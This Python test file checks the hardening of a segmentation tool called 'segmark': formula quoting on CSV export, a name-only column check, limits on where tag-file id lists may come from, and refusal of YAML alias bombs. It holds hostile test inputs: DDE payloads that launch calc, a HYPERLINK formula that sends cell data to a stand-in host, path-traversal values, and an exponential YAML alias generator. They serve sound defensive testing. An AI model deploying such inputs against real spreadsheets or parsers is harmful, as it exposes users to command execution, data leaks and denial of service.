"""Files that come from outside and files that go out: an exported CSV's text cells that a spreadsheet
would run as formulas are quoted (values from the shop's data, here through a SQL tag), ``--columns``
takes names only, a tag file's id list must be a regular file beside the tag file, and YAML aliases cannot make a small
tag file or playbook expand into gigabytes of text."""

from __future__ import annotations

import contextlib
import os
import threading
from pathlib import Path

import pandas as pd
import pytest

from segmark.core.audience.cells import formula_like, quote_formulas
from segmark.core.audience.playbook import parse_playbook
from segmark.core.tags import TagFileError, parse_tag_file
from segmark.errors import ConfigError, InputError
from segmark.pipeline.audience import create_audience, export_audience, load_playbook
from segmark.pipeline.tags import apply_tags


@pytest.mark.parametrize(("value", "quoted"), [
    ("=1+2", True), ("+SUM(A1)", True), ("-2+3+cmd|' /C calc'!A0", True), ("@SUM(1+1)", True),
    ("\t=1", True), ("\r=1", True), ("=HYPERLINK(\"http://x/?\"&A1)", True),
    ("-5", False), ("+3.2", False), ("-1e5", False), ("u1", False), ("上海", False), ("a=b", False), ("", False),
    (None, False), (5, False),
])
def test_formula_like_cells(value: object, quoted: bool) -> None:
    assert formula_like(value) is quoted


def test_quote_formulas_prefixes_text_cells_only() -> None:
    frame = pd.DataFrame({"user_id": ["u1", "=u2", "-7"], "n": [1, -2, 3], "city": ["上海", None, "@x"]})
    out, count = quote_formulas(frame)
    assert count == 2
    assert out["user_id"].tolist() == ["u1", "'=u2", "-7"]
    assert out["city"].iloc[0] == "上海" and pd.isna(out["city"].iloc[1]) and out["city"].iloc[2] == "'@x"
    assert out["n"].tolist() == [1, -2, 3]
    assert frame["user_id"].tolist() == ["u1", "=u2", "-7"]  # the input is left as it was


TAGS = """\
version: 1
groups:
  - group: g
    tags:
      - tag: note
        kind: sql
        sql: >
          SELECT user_id, CASE user_id WHEN 'u1' THEN '=cmd|'' /C calc''!A0' WHEN 'u2' THEN '-5'
          ELSE 'plain' END AS value FROM users
"""


def test_csv_export_quotes_formula_cells_and_parquet_keeps_them(hand_ws, tmp_path: Path) -> None:
    (tmp_path / "tags.yaml").write_text(TAGS, encoding="utf-8")
    apply_tags(hand_ws, tmp_path / "tags.yaml")
    create_audience(hand_ws, "everyone", "frequency >= 0")
    r = export_audience(hand_ws, "everyone", tmp_path / "a.csv", columns=["note"], min_size=1)
    assert r["users"] == 8 and r["quoted_cells"] == 1
    df = pd.read_csv(tmp_path / "a.csv", dtype=str).set_index("user_id")
    assert df.loc["u1", "note"] == "'=cmd|' /C calc'!A0"
    assert df.loc["u2", "note"] == "-5" and df.loc["u3", "note"] == "plain"
    r = export_audience(hand_ws, "everyone", tmp_path / "a.parquet", columns=["note"], min_size=1)
    assert r["quoted_cells"] == 0
    assert pd.read_parquet(tmp_path / "a.parquet").set_index("user_id").loc["u1", "note"] == "=cmd|' /C calc'!A0"


def test_columns_are_names_not_conditions(hand_ws, tmp_path: Path) -> None:
    create_audience(hand_ws, "everyone", "frequency >= 0")
    with pytest.raises(InputError, match="give names only"):
        export_audience(hand_ws, "everyone", tmp_path / "a.csv", columns=["age > 1 OR city"], min_size=1)
    assert not (tmp_path / "a.csv").exists()


def _unblock(fifo: Path) -> None:
    """Open the pipe for writing and close it, so that a reader sees its end (no reader: nothing)."""
    with contextlib.suppress(OSError):
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))


@pytest.mark.parametrize("kind", ["folder", "fifo"])
def test_an_id_list_must_be_a_regular_file(hand_ws, tmp_path: Path, kind: str) -> None:
    target = tmp_path / "ids"
    if kind == "folder":
        target.mkdir()
    else:
        os.mkfifo(target)  # reading it would block until a writer came: one comes after 10 s, so that
        # a regression fails (the list would read as empty) instead of hanging the suite
        timer = threading.Timer(10, _unblock, [target])
        timer.daemon = True
        timer.start()
    path = tmp_path / "tags.yaml"
    line = "      - {tag: t, kind: list, file: ids}"
    path.write_text(f"version: 1\ngroups:\n  - group: g\n    tags:\n{line}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="is not a regular file") as info:
        apply_tags(hand_ws, path)
    assert f"{path}, line 5, column {line.index('ids') + 1}:" in str(info.value)
    assert hand_ws.store.scalar("SELECT count(*) FROM user_tags") == 0


@pytest.mark.parametrize("kind", ["absolute", "dotdot", "link"])
def test_an_id_list_is_read_only_from_beside_the_tag_file(hand_ws, tmp_path: Path, kind: str) -> None:
    """A tag file may come from others: its list cannot name any file the process can read."""
    elsewhere = tmp_path / "elsewhere" / "ids.csv"
    elsewhere.parent.mkdir()
    elsewhere.write_text("user_id\nu1\n", encoding="utf-8")
    folder = tmp_path / "tags"
    folder.mkdir()
    name = {"absolute": str(elsewhere), "dotdot": "../elsewhere/ids.csv", "link": "ids.csv"}[kind]
    if kind == "link":
        (folder / "ids.csv").symlink_to(elsewhere)
    path = folder / "tags.yaml"
    line = f"      - {{tag: t, kind: list, file: '{name}'}}"
    path.write_text(f"version: 1\ngroups:\n  - group: g\n    tags:\n{line}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="outside the tag file's folder") as info:
        apply_tags(hand_ws, path)
    assert f"{path}, line 5, column {line.index(name) + 1}:" in str(info.value)
    assert hand_ws.store.scalar("SELECT count(*) FROM user_tags") == 0
    # beside it, or in a folder below it, the same list is read
    (folder / "lists").mkdir()
    (folder / "lists" / "ids.csv").write_text("user_id\nu1\n", encoding="utf-8")
    path.write_text(path.read_text(encoding="utf-8").replace(f"'{name}'", "lists/ids.csv"), encoding="utf-8")
    apply_tags(hand_ws, path)
    assert hand_ws.store.query_rows("SELECT user_id, tag FROM user_tags") == [("u1", "t")]


def _alias_bomb(levels: int) -> str:
    """A YAML list of ``levels`` anchors, each nine aliases of the one before: a few hundred bytes
    whose text, written out, is 9**levels items (7 here: 4.8 million, 30 MB; each level is nine times the one
    before, so a regression fails here without taking the machine's memory)."""
    parts = ["&l0 [x, x, x, x, x, x, x, x, x]"]
    parts += [f"&l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "[" + ", ".join(parts) + "]"


def test_a_list_as_a_tag_file_key_is_refused_before_it_is_written_out() -> None:
    text = ("version: 1\ngroups:\n  - group: g\n    tags:\n      - tag: t\n        kind: rule\n"
            f"        ? {_alias_bomb(7)}\n        : 1\n")
    assert len(text) < 600
    with pytest.raises(TagFileError, match="a key must be text") as info:
        parse_tag_file(text, "t.yaml")
    assert str(info.value).startswith("t.yaml, line 7, column 11:")


@pytest.mark.parametrize(("yaml_text", "words"), [
    (f"default:\n  action: {_alias_bomb(7)}\n", "'default': 'action' must be text, not a list"),
    (f"segments:\n  champions: {{action: VIP, channel: {_alias_bomb(7)}}}\n",
     "'champions': 'channel' must be text, not a list"),
    (f"segments:\n  ? {_alias_bomb(7)}\n  : {{action: VIP}}\n", "line 2, column 5: not valid YAML"),  # unhashable
    ("segments: [a, b]\n", "'segments' is a mapping"),
])
def test_a_playbooks_texts_must_be_text(hand_ws, yaml_text: str, words: str) -> None:
    (hand_ws.root / "playbooks.yaml").write_text(yaml_text, encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_playbook(hand_ws)
    assert str(info.value).startswith(str(hand_ws.root / "playbooks.yaml"))
    assert words in str(info.value)


def test_a_playbook_of_text_still_reads() -> None:
    book = parse_playbook({"default": {"action": "Say hello", "action_zh": "问好", "channel": None},
                           "segments": {"champions": {"action": "VIP", "channel": 7}}}, "p")
    assert book.action_for("champions_weekend").action == "VIP" and book.action_for("champions").channel == "7"
    assert book.action_for(None).action_zh == "问好" and book.action_for(None).channel == ""
